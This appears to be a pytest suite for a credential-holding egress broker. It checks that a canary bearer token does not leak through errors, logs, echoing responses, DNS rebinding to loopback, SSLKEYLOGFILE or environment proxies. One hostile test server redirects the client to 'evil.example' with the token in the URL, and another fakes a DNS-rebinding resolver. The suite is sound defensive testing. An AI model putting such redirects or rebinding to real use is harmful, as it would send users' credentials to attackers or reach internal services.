"""Attempts on the only way out: to be sent elsewhere, to bring a token home, to write the request for us."""

import asyncio
import logging
import socket
import traceback
from collections.abc import AsyncIterator, Callable
from ipaddress import ip_network
from pathlib import Path
from typing import Any

import anyio
import pytest

from broker.egress import Client, Dispatch, Egress, Limits, Reach, Response, Secret, Session
from broker.errors import EgressDenied, Refusal
from broker.testing.certificates import CertificateAuthority, ServerCertificate
from tests.support.low_upstream import Exchange, Script, serving

pytestmark = pytest.mark.anyio

TOKEN = "00D5g000000abcd!AQ.CANARY" + "x" * 80
LOOPBACK = (ip_network("127.0.0.0/8"), ip_network("::1/128"))
MakeClient = Callable[..., Client]


@pytest.fixture
def anyio_backend() -> str:
    """Run on asyncio, as the daemon does."""
    return "asyncio"


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> CertificateAuthority:
    """Make the authority that signs for the services of this file."""
    return CertificateAuthority(tmp_path_factory.mktemp("authority"))


@pytest.fixture(scope="module")
def certificate(authority: CertificateAuthority) -> ServerCertificate:
    """Make their certificate."""
    return authority.issue("server")


@pytest.fixture
async def make_client(authority: CertificateAuthority) -> AsyncIterator[MakeClient]:
    """Make clients that may reach these hosts."""
    egress = Egress()
    trust = authority.certificate_file.read_text()

    def make(*hosts: str, private: Any = LOOPBACK, **limits: Any) -> Client:
        limits = {"connect_seconds": 2.0, "total_seconds": 2.0, "response_bytes": 10_000, **limits}
        return egress.client(Reach(frozenset(hosts), private), Limits(**limits), trust)

    yield make
    await egress.close()


class Held:
    """A credential whose token is always this one."""

    async def header(self) -> Secret:
        """Return the header."""
        return Secret(f"Bearer {TOKEN}")

    async def renew(self, spent: Secret) -> None:
        """Have no other."""


def unauthorized(response: Response) -> bool:
    """Tell whether the token has expired."""
    return response.status == 401


async def redirects(exchange: Exchange) -> None:
    """Send the client to a stranger, with its token in the address."""
    await exchange.answer(302, b"", {"Location": f"https://evil.example/?{exchange.headers['authorization']}"})


async def refuses(exchange: Exchange) -> None:
    """Refuse every token, and quote it."""
    await exchange.answer(401, exchange.headers["authorization"].encode())


async def floods(exchange: Exchange) -> None:
    """Repeat the token until the client has had enough."""
    await exchange.answer(200, exchange.headers["authorization"].encode() * 1000)


async def breaks_off(exchange: Exchange) -> None:
    """Begin to quote the token in a header, and go."""
    await exchange.send(f"HTTP/1.1 200 OK\r\nX-Echo: {exchange.headers['authorization']}\r\n".encode())
    exchange.drop()


async def talks_nonsense(exchange: Exchange) -> None:
    """Quote the token where the status belongs."""
    await exchange.send(f"HTTP/1.1 {exchange.headers['authorization']}\r\n\r\n".encode())


async def falls_silent(exchange: Exchange) -> None:
    """Say nothing."""
    await exchange.until_the_client_leaves()


@pytest.mark.parametrize("script", [redirects, refuses, floods, breaks_off, talks_nonsense, falls_silent])
async def test_no_failure_brings_the_token_along(
    make_client: MakeClient, certificate: ServerCertificate, script: Script, caplog: pytest.LogCaptureFixture
) -> None:
    """credentials.md B6 (4): not in the exception, its chain, its frames' variables, or a debug log of any library."""
    caplog.set_level(logging.DEBUG)
    async with serving(certificate, script) as upstream:
        session = Session(make_client(upstream.host, total_seconds=1.0), upstream.url, Held(), unauthorized)
        with pytest.raises(Refusal) as refusal:
            await session.call("GET", "/a")
        arrived = upstream.received[0].headers["authorization"]

    error = refusal.value
    ours = [frame for frame in traceback.walk_tb(error.__traceback__) if frame[0].f_code.co_filename != __file__]
    text = "".join(traceback.StackSummary.extract(iter(ours), capture_locals=True).format())
    assert arrived == f"Bearer {TOKEN}"  # the control: it was there to be leaked
    assert "CANARY" not in text + repr(vars(error)) + str(error) + caplog.text
    assert error.__context__ is None
    assert error.__cause__ is None


async def test_a_response_does_not_show_what_it_quotes(make_client: MakeClient, certificate: ServerCertificate) -> None:
    """credentials.md B6 (1, 2): an echo in a header is dropped, one in the body is in no repr."""

    async def script(exchange: Exchange) -> None:
        await exchange.answer(200, exchange.headers["authorization"].encode(), {"X-Echo": TOKEN})

    async with serving(certificate, script) as upstream:
        session = Session(make_client(upstream.host), upstream.url, Held(), unauthorized)
        response = await session.call("GET", "/a")

    assert TOKEN.encode() in response.body
    assert "CANARY" not in repr(response)


async def test_a_name_that_comes_to_mean_this_machine_is_not_called(
    make_client: MakeClient, certificate: ServerCertificate, monkeypatch: pytest.MonkeyPatch
) -> None:
    """credentials.md B6: resolve, then connect, beats DNS rebinding; the service on loopback sees nothing."""

    async def script(exchange: Exchange) -> None:
        await exchange.answer()

    async def rebound(_host: str, port: int, **_: Any) -> list[Any]:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port))]

    monkeypatch.setattr(asyncio.get_running_loop(), "getaddrinfo", rebound)
    async with serving(certificate, script) as upstream:
        port = upstream.host.partition(":")[2]
        client = make_client(f"api.example.com:{port}", private=())
        dispatch = Dispatch()
        with pytest.raises(EgressDenied):
            await client.send("GET", f"https://api.example.com:{port}/", {}, None, dispatch)

    assert upstream.connections == 0
    assert not dispatch.sent


async def test_two_callers_of_a_condemned_name_do_not_share_one_refusal(
    make_client: MakeClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """errors.py: a refusal names the call that it ended, so no two calls may hold the same one."""
    asked = asyncio.Event()

    async def slow(_host: str, port: int, **_: Any) -> list[Any]:
        await asked.wait()
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.0.0.1", port))]

    monkeypatch.setattr(asyncio.get_running_loop(), "getaddrinfo", slow)
    client = make_client("api.example.com")
    calls = [
        asyncio.create_task(client.send("GET", "https://api.example.com/", {}, None, Dispatch())) for _ in range(3)
    ]
    await anyio.lowlevel.checkpoint()
    asked.set()
    with anyio.fail_after(30):
        ended = await asyncio.gather(*calls, return_exceptions=True)

    assert [type(refusal) for refusal in ended] == [EgressDenied] * 3
    assert len({id(refusal) for refusal in ended}) == 3


async def test_the_keys_of_a_connection_are_not_written_where_the_environment_says(
    certificate: ServerCertificate, authority: CertificateAuthority, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Issue 2, Egress: SSLKEYLOGFILE would let whoever reads that file read every token on the wire."""

    async def script(exchange: Exchange) -> None:
        await exchange.answer()

    egress = Egress()
    async with serving(certificate, script) as upstream:
        monkeypatch.setenv("SSLKEYLOGFILE", str(tmp_path / "keys.log"))  # after the service, which obeys it
        trust = authority.certificate_file.read_text()
        client = egress.client(Reach(frozenset({upstream.host}), LOOPBACK), Limits(), trust)
        await client.send("GET", upstream.url, {}, None, Dispatch())
    await egress.close()

    assert len(upstream.received) == 1
    assert not (tmp_path / "keys.log").exists()


async def test_a_proxy_of_the_environment_never_sees_a_request(
    make_client: MakeClient, certificate: ServerCertificate, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 2, Egress: one way out; HTTPS_PROXY is somebody else's."""
    seen: list[bytes] = []

    async def proxy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append(await reader.readline())
        writer.close()

    async def script(exchange: Exchange) -> None:
        await exchange.answer()

    listener = await asyncio.start_server(proxy, "127.0.0.1", 0)
    address = listener.sockets[0].getsockname()
    for name in ("HTTPS_PROXY", "https_proxy", "ALL_PROXY", "all_proxy"):
        monkeypatch.setenv(name, f"http://127.0.0.1:{address[1]}")
    async with serving(certificate, script) as upstream:
        session = Session(make_client(upstream.host), upstream.url, Held(), unauthorized)
        await session.call("GET", "/a")
    listener.close()

    assert len(upstream.received) == 1
    assert seen == []
